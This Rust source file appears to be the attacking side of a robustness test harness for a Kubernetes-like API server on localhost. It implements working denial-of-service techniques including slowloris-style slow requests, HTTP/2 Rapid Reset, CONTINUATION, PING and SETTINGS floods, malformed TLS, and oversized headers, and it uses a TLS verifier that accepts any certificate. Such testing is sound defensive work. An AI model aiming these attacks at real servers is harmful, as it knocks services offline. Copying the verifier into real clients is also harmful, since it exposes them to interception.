//! What clients that mean harm do with one connection.

use std::sync::Arc;
use std::time::Duration;

use fastrand::Rng;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;
use tokio_rustls::rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use tokio_rustls::rustls::crypto::ring;
use tokio_rustls::rustls::pki_types::{CertificateDer, ServerName, UnixTime};
use tokio_rustls::rustls::{ClientConfig, DigitallySignedStruct, Error, SignatureScheme};

use crate::bodies::{Costly, NOBODY, TENANT};

/// A way to harm.
#[derive(Clone, Copy, Debug)]
pub enum Attack {
    /// Records that are no TLS.
    MalformedTls,
    /// A connection on which nothing is ever said.
    HalfOpen,
    /// A handshake without an end.
    HalfHandshake,
    GarbageHttp1,
    GarbageHttp2,
    /// A head that comes byte by byte.
    SlowHead,
    /// A body that comes byte by byte, from somebody who is known.
    SlowBody,
    /// Streams that are opened and given up at once.
    RapidReset,
    /// Heads as large as they may be, and larger.
    LargeHeads,
    Pings,
    Settings,
    /// A head that is continued for ever.
    Continuations,
    /// Answers that nobody reads.
    Unread,
    /// Lists in every format that nobody reads.
    UnreadLists,
    /// Names that nobody serves, always new ones.
    MadeUpNames,
    /// A connection on which nothing is said after the handshake.
    SilentTls,
    /// The first bytes of HTTP/2 and no more.
    HalfPreface,
    /// Requests whose bodies never come.
    Bodiless,
    /// Requests that are small to send and large to answer, one kind after the other.
    Costly,
}

pub const ATTACKS: [Attack; 19] = [
    Attack::MalformedTls,
    Attack::HalfOpen,
    Attack::HalfHandshake,
    Attack::GarbageHttp1,
    Attack::GarbageHttp2,
    Attack::SlowHead,
    Attack::SlowBody,
    Attack::RapidReset,
    Attack::LargeHeads,
    Attack::Pings,
    Attack::Settings,
    Attack::Continuations,
    Attack::Unread,
    Attack::UnreadLists,
    Attack::MadeUpNames,
    Attack::SilentTls,
    Attack::HalfPreface,
    Attack::Bodiless,
    Attack::Costly,
];

impl Attack {
    /// How many do this at once.
    pub fn attackers(self) -> usize {
        match self {
            // Each of these keeps the attacker's own side busy.
            Self::Costly => 4,
            _ => 12,
        }
    }
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

pub struct Attacker {
    port: u16,
    token: &'static str,
    costly: Arc<[Costly]>,
}

type Outcome = std::io::Result<()>;

impl Attacker {
    pub fn new(port: u16, token: &'static str, costly: Arc<[Costly]>) -> Self {
        Self { port, token, costly }
    }

    /// One connection, to its end.
    pub async fn attack(&self, attack: Attack, rng: &mut Rng) -> Outcome {
        match attack {
            Attack::MalformedTls => self.malformed_tls(rng).await,
            Attack::HalfOpen => wait_out(self.tcp().await?).await,
            Attack::HalfHandshake => self.half_handshake().await,
            Attack::GarbageHttp1 => self.garbage(b"http/1.1", b"GET / HTTP/1.1\r\n", rng).await,
            Attack::GarbageHttp2 => self.garbage(b"h2", b"", rng).await,
            Attack::SlowHead => self.slowly("GET /healthz HTTP/1.1\r\nHost: x\r\n", "X-A: b\r\n").await,
            Attack::SlowBody => {
                let path = "/api/v1/namespaces/n/configmaps";
                let head = format!(
                    "POST {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {}\r\nContent-Length: 100000\r\n\r\n",
                    self.token
                );
                self.slowly(&head, " ").await
            }
            Attack::RapidReset => self.rapid_reset().await,
            Attack::LargeHeads => self.large_heads(rng).await,
            Attack::Pings => self.repeated(&frame(PING, 0, 0, &[7; 8])).await,
            Attack::Settings => self.repeated(&frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])).await,
            Attack::Continuations => self.continuations().await,
            Attack::Unread => {
                let paths = ["/openapi/v2"; 50].map(|path| (path.to_owned(), "*/*"));
                self.unread(self.token, &paths).await
            }
            Attack::UnreadLists => {
                let formats = ["application/yaml", "application/json", "application/vnd.kubernetes.protobuf"];
                let table = "application/json;as=Table;v=v1;g=meta.k8s.io";
                let list = |i: usize| {
                    let accept = formats.get(i % 4).copied().unwrap_or(table);
                    ("/api/v1/namespaces/n/secrets".to_owned(), accept)
                };
                let lists: Vec<_> = (0..60).map(list).collect();
                self.unread(TENANT, &lists).await
            }
            Attack::MadeUpNames => self.made_up_names(rng).await,
            Attack::SilentTls => wait_out(self.tls(b"http/1.1").await?).await,
            Attack::HalfPreface => {
                let mut stream = self.tls(b"h2").await?;
                stream.write_all(&PREFACE[..12]).await?;
                wait_out(stream).await
            }
            Attack::Bodiless => self.bodiless().await,
            Attack::Costly => self.costly(&self.costly[rng.usize(..self.costly.len())]).await,
        }
    }

    async fn tcp(&self) -> std::io::Result<TcpStream> {
        TcpStream::connect(("127.0.0.1", self.port)).await
    }

    async fn tls(&self, protocol: &[u8]) -> std::io::Result<TlsStream<TcpStream>> {
        let mut config = ClientConfig::builder_with_provider(Arc::new(ring::default_provider()))
            .with_safe_default_protocol_versions()
            .unwrap()
            .dangerous()
            .with_custom_certificate_verifier(Arc::new(Careless))
            .with_no_client_auth();
        config.alpn_protocols = vec![protocol.to_vec()];
        TlsConnector::from(Arc::new(config)).connect("127.0.0.1".try_into().unwrap(), self.tcp().await?).await
    }

    async fn http2(&self) -> std::io::Result<TlsStream<TcpStream>> {
        let mut stream = self.tls(b"h2").await?;
        stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).await?;
        Ok(stream)
    }

    async fn malformed_tls(&self, rng: &mut Rng) -> Outcome {
        let mut stream = self.tcp().await?;
        let mut bytes = noise(rng, 20_000);
        if rng.bool() {
            // The beginning of a record that says to be a handshake.
            bytes.splice(0..0, [0x16, 3, 1, rng.u8(..), rng.u8(..), 1]);
        }
        stream.write_all(&bytes).await?;
        wait_out(stream).await
    }

    async fn half_handshake(&self) -> Outcome {
        let mut stream = self.tcp().await?;
        // A record of 512 bytes, of which only the first ones come.
        stream.write_all(&[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]).await?;
        wait_out(stream).await
    }

    async fn garbage(&self, protocol: &[u8], beginning: &[u8], rng: &mut Rng) -> Outcome {
        let mut stream = self.tls(protocol).await?;
        stream.write_all(beginning).await?;
        stream.write_all(&noise(rng, 100_000)).await?;
        stream.shutdown().await?;
        read_out(stream).await
    }

    async fn slowly(&self, beginning: &str, more: &str) -> Outcome {
        let mut stream = self.tls(b"http/1.1").await?;
        stream.write_all(beginning.as_bytes()).await?;
        loop {
            for byte in more.as_bytes() {
                stream.write_all(&[*byte]).await?;
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        }
    }

    async fn rapid_reset(&self) -> Outcome {
        let mut stream = self.http2().await?;
        for round in 0..100 {
            let pairs = (0..50).flat_map(|i| {
                let id = 2 * (round * 50 + i) + 1;
                let head = frame(HEADERS, END_STREAM | END_HEADERS, id, &head(&[]));
                [head, frame(RST_STREAM, 0, id, &[0, 0, 0, 8])].concat()
            });
            stream.write_all(&pairs.collect::<Vec<u8>>()).await?;
        }
        read_out(stream).await
    }

    async fn large_heads(&self, rng: &mut Rng) -> Outcome {
        let mut stream = self.http2().await?;
        for i in 0..50 {
            let field = literal("x-large", &"v".repeat(rng.usize(1000..15_000)));
            let block = head(&field.repeat(rng.usize(1..10)));
            let (first, rest) = block.split_at(block.len().min(16_000));
            let mut frames =
                frame(HEADERS, END_STREAM | if rest.is_empty() { END_HEADERS } else { 0 }, 2 * i + 1, first);
            let pieces: Vec<&[u8]> = rest.chunks(16_000).collect();
            for (at, piece) in pieces.iter().enumerate() {
                let last = if at + 1 == pieces.len() { END_HEADERS } else { 0 };
                frames.extend(frame(CONTINUATION, last, 2 * i + 1, piece));
            }
            stream.write_all(&frames).await?;
        }
        read_out(stream).await
    }

    /// The same frame, as fast as it goes; whatever is answered is left unread.
    async fn repeated(&self, frame: &[u8]) -> Outcome {
        let mut stream = self.http2().await?;
        for _ in 0..200 {
            stream.write_all(&frame.repeat(500)).await?;
        }
        Ok(())
    }

    async fn continuations(&self) -> Outcome {
        let mut stream = self.http2().await?;
        stream.write_all(&frame(HEADERS, END_STREAM, 1, &head(&[]))).await?;
        loop {
            stream.write_all(&frame(CONTINUATION, 0, 1, &literal("x-more", "v")).repeat(100)).await?;
        }
    }

    async fn made_up_names(&self, rng: &mut Rng) -> Outcome {
        let mut stream = self.tls(b"http/1.1").await?;
        for _ in 0..50 {
            let (group, name) = (rng.u64(..), "n".repeat(rng.usize(1..5000)));
            let path = format!("/apis/g{group}/v1/namespaces/n/r{group}/{name}/{name}");
            stream.write_all(format!("GET {path} HTTP/1.1\r\nHost: x\r\n\r\n").as_bytes()).await?;
        }
        stream.shutdown().await?;
        read_out(stream).await
    }

    /// Opens requests that say that they have a body, and leaves them open.
    async fn bodiless(&self) -> Outcome {
        let mut stream = self.http2().await?;
        let path = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews";
        let field = literal("authorization", &format!("Bearer {NOBODY}"));
        let block = [&[0x83, 0x87, 0x41, 1, b'x', 0x04], &length(path.len())[..], path.as_bytes(), &field].concat();
        for i in 0..100 {
            stream.write_all(&frame(HEADERS, END_HEADERS, 2 * i + 1, &block)).await?;
        }
        read_out(stream).await
    }

    async fn costly(&self, costly: &Costly) -> Outcome {
        let mut stream = self.tls(b"http/1.1").await?;
        let Costly { method, path, content_type, token, body } = costly;
        let head = format!(
            "{method} {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\nContent-Type: {content_type}\r\n\
             Content-Length: {}\r\nConnection: close\r\n\r\n",
            body.len()
        );
        stream.write_all(head.as_bytes()).await?;
        stream.write_all(body).await?;
        read_out(stream).await
    }

    /// Many requests for something large.
    async fn unread(&self, token: &str, requests: &[(String, &str)]) -> Outcome {
        let mut stream = self.http2().await?;
        // A window that would take all of them.
        stream.write_all(&frame(SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff])).await?;
        stream.write_all(&frame(8, 0, 0, &[0x7f, 0, 0, 0])).await?;
        for (id, (path, accept)) in (1..).step_by(2).zip(requests) {
            let fields = [literal("authorization", &format!("Bearer {token}")), literal("accept", accept)].concat();
            let head = [&[0x82, 0x87, 0x41, 1, b'x', 0x04], &length(path.len())[..], path.as_bytes()].concat();
            stream.write_all(&frame(HEADERS, END_STREAM | END_HEADERS, id, &[head, fields].concat())).await?;
        }
        tokio::time::sleep(Duration::from_secs(3)).await;
        Ok(())
    }
}

fn noise(rng: &mut Rng, most: usize) -> Vec<u8> {
    let length = rng.usize(1..most);
    std::iter::repeat_with(|| rng.u8(..)).take(length).collect()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length, &[kind, flags][..], &stream.to_be_bytes(), payload].concat()
}

/// The head of a GET of `/`, and more fields.
fn head(more: &[u8]) -> Vec<u8> {
    [&[0x82, 0x87, 0x84, 0x41, 1, b'x'], more].concat()
}

/// A field that the table of names is not asked for.
fn literal(name: &str, value: &str) -> Vec<u8> {
    [&[0, u8::try_from(name.len()).unwrap()], name.as_bytes(), &length(value.len()), value.as_bytes()].concat()
}

/// A length in seven bits, continued as HPACK does.
fn length(mut length: usize) -> Vec<u8> {
    if length < 127 {
        return vec![u8::try_from(length).unwrap()];
    }
    length -= 127;
    let mut bytes = vec![127];
    while length >= 128 {
        bytes.push(u8::try_from(length % 128).unwrap() | 128);
        length /= 128;
    }
    bytes.push(u8::try_from(length).unwrap());
    bytes
}

/// Waits until the server has had enough.
async fn wait_out(mut stream: impl AsyncRead + Unpin) -> Outcome {
    let mut sink = [0; 1024];
    while stream.read(&mut sink).await? > 0 {}
    Ok(())
}

async fn read_out(mut stream: TlsStream<TcpStream>) -> Outcome {
    let mut sink = vec![0; 16 * 1024];
    while stream.read(&mut sink).await? > 0 {}
    Ok(())
}

/// Who means harm does not care whom he speaks to.
#[derive(Debug)]
struct Careless;

impl ServerCertVerifier for Careless {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        ring::default_provider().signature_verification_algorithms.supported_schemes()
    }
}
